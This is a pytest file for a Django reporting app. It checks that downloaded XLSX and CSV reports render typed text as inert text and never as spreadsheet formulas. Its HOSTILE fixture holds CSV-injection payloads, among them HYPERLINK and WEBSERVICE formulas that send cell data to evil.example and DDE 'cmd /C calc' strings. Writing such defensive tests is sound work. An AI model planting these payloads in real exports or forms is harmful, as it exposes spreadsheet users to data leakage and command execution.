"""Text people typed never becomes a live formula in a spreadsheet (OWASP "CSV injection").

Every free-text field that reaches a report holds a hostile value here: the names and
institutions of co-working visitors, the institution and event title of a visit or a
loan, the equipment's name, the damage and its repair, a survey suggestion, and the
Kasi's correction, reason and note on the monthly recap. Each report is downloaded as
XLSX and CSV, the way the Kasi would open it in a spreadsheet program.
"""

import csv
import datetime as dt
import io
import zipfile

import pytest
import time_machine
from django.urls import reverse
from openpyxl import load_workbook

from reports import actions
from reports.periods import month
from tests.reports.conftest import add_reservation, add_session, aware, make_desks

pytestmark = pytest.mark.django_db

NOVEMBER_2 = dt.datetime(2026, 11, 2, 9, 0, tzinfo=dt.timezone(dt.timedelta(hours=7)))

HOSTILE = {
    "name": '=HYPERLINK("http://evil.example/?x="&A1,"klik")',
    "institution": '+HYPERLINK("http://evil.example/i","klik")',
    "no_show_name": '-2+3+cmd|" /C calc"!A0',
    "visit_institution": '=HYPERLINK("http://evil.example/?v="&A1,"klik")',
    "loan_institution": "@SUM(1+1)*cmd|' /C calc'!A0",
    "event_title": '=WEBSERVICE("http://evil.example/e")',
    "equipment": "=1+2",
    "damage": "\t=1+1",
    "repair": "\r=1+1",
    "suggestion": ' =HYPERLINK("http://evil.example/s")',
    "correction": '=HYPERLINK("http://evil.example/c")',
    "reason": "-1+1",
    "note": "@evil",
}
TRIGGERS = ("=", "+", "-", "@", "\t", "\r", "\n")


@pytest.fixture
def hostile_october(db, admin_user, kasi_user):
    from meetingroom.models import DamageReport, Equipment, LoanEquipment
    from reports.models import SurveyResponse
    from reservations.models import RequestState, Resource, ServiceRequest

    desks = make_desks((1, 2))
    day = dt.date(2026, 10, 6)
    add_session(desks[1], day, "08:00", "12:00", name=HOSTILE["name"], institution="Untan")
    add_session(desks[2], day, "08:00", "10:00", name="Ayu", institution=HOSTILE["institution"])
    from coworking.models import Status

    add_reservation(
        desks[1], day, "13:00", "14:00", status=Status.NO_SHOW, name=HOSTILE["no_show_name"]
    )

    room = Resource.objects.create(name="Ruang Rapat Pontive", service="meetingroom")
    hall = Resource.objects.create(name="Command Center", service="visit")

    def request(service, resource, institution, title, n):
        return ServiceRequest.objects.create(
            service=service,
            code=f"REQ-{service}-{n}",
            state=RequestState.COMPLETED,
            state_since=aware(day, "08:00"),
            resource=resource,
            institution=institution,
            contact_name="Guru",
            email=f"guru{n}@example.id",
            phone="+6281234500000",
            participants=30,
            start=aware(day, "09:00"),
            end=aware(day, "11:00"),
            purpose="Belajar",
            event_title=title,
            privacy_version="2026-11",
        )

    request("visit", hall, HOSTILE["visit_institution"], "", 1)
    loan = request("meetingroom", room, HOSTILE["loan_institution"], HOSTILE["event_title"], 2)
    projector = Equipment.objects.create(resource=room, name=HOSTILE["equipment"], quantity=2)
    LoanEquipment.objects.create(request=loan, equipment=projector, quantity=1)
    DamageReport.objects.create(
        equipment=projector,
        description=HOSTILE["damage"],
        reported_by=admin_user,
        reported_at=aware(day, "12:00"),
        repaired_at=aware(dt.date(2026, 10, 8), "12:00"),
        repaired_by=admin_user,
        repair_note=HOSTILE["repair"],
    )
    for service in ("meetingroom", "visit", "coworking"):
        SurveyResponse.objects.create(
            ballot=f"b-{service}",
            service=service,
            service_date=day,
            submitted_on=day,
            sex="P",
            age=30,
            education="S1",
            occupation="swasta",
            suggestion=HOSTILE["suggestion"],
        )
    with time_machine.travel(NOVEMBER_2, tick=False):
        recap = actions.prepare_recap(period=month(2026, 10))
        actions.submit_recap(recap=recap, by=admin_user)
        actions.correct_recap(
            recap=recap,
            by=kasi_user,
            row=2,
            field="institution",
            value=HOSTILE["correction"],
            reason=HOSTILE["reason"],
        )
        actions.annotate_recap(recap=recap, by=kasi_user, text=HOSTILE["note"])
    return recap


def downloads(recap, fmt):
    """The recap (version 2, the corrected one) and every period report."""
    yield reverse("reports:recap-download", args=[recap.slug, 2, fmt])
    for url in (
        "/laporan/ruang-rapat/2026-10",
        "/laporan/kunjungan/2026-Q4",
        "/laporan/coworking/2026-Q4",
        "/laporan/tahunan/2026",
    ):
        yield f"{url}.{fmt}"


def _fetch(client, url):
    response = client.get(url)
    assert response.status_code == 200, url
    return response.content


def test_no_cell_of_any_workbook_is_a_formula(hostile_october, client_as, kasi_user):
    client = client_as(kasi_user)
    seen: set[str] = set()
    for url in downloads(hostile_october, "xlsx"):
        data = _fetch(client, url)
        with zipfile.ZipFile(io.BytesIO(data)) as archive:
            for name in archive.namelist():
                if name.startswith("xl/worksheets/"):
                    assert b"<f>" not in archive.read(name) and b"<f " not in archive.read(name)
        book = load_workbook(io.BytesIO(data))
        for sheet in book.worksheets:
            for row in sheet.iter_rows():
                for cell in row:
                    assert cell.data_type != "f", (url, sheet.title, cell.coordinate, cell.value)
                    if isinstance(cell.value, str) and cell.value.lstrip(" ")[:1] in TRIGGERS:
                        # Stored as text, and shown as text by Excel and LibreOffice.
                        assert cell.data_type == "s" and cell.quotePrefix, cell.value
                        seen.add(cell.value)
    # The test is only worth something if every hostile value made it into some report
    # (XML reads a lone carriage return back as a line feed).
    assert {v.replace("\r", "\n") for v in HOSTILE.values()} - seen == set()
    # The Kasi reads what was typed, to the letter (no apostrophe added in a workbook).
    book = load_workbook(io.BytesIO(_fetch(client, "/laporan/kunjungan/2026-Q4.xlsx")))
    visits = [r[2] for r in book["Daftar kunjungan"].iter_rows(values_only=True)]
    assert HOSTILE["visit_institution"] in visits


def test_no_field_of_any_csv_starts_like_a_formula(hostile_october, client_as, kasi_user):
    client = client_as(kasi_user)
    seen: set[str] = set()
    for url in downloads(hostile_october, "csv"):
        text = _fetch(client, url).decode("utf-8-sig")
        for row in csv.reader(io.StringIO(text, newline="")):
            for field in row:
                if field.lstrip(" ")[:1] in TRIGGERS:
                    try:
                        float(field)  # a negative figure is a number, not a formula
                    except ValueError:
                        pytest.fail(f"{url}: {field!r} would run as a formula")
                if field.startswith("'"):
                    seen.add(field[1:])
    assert set(HOSTILE.values()) - seen == set()
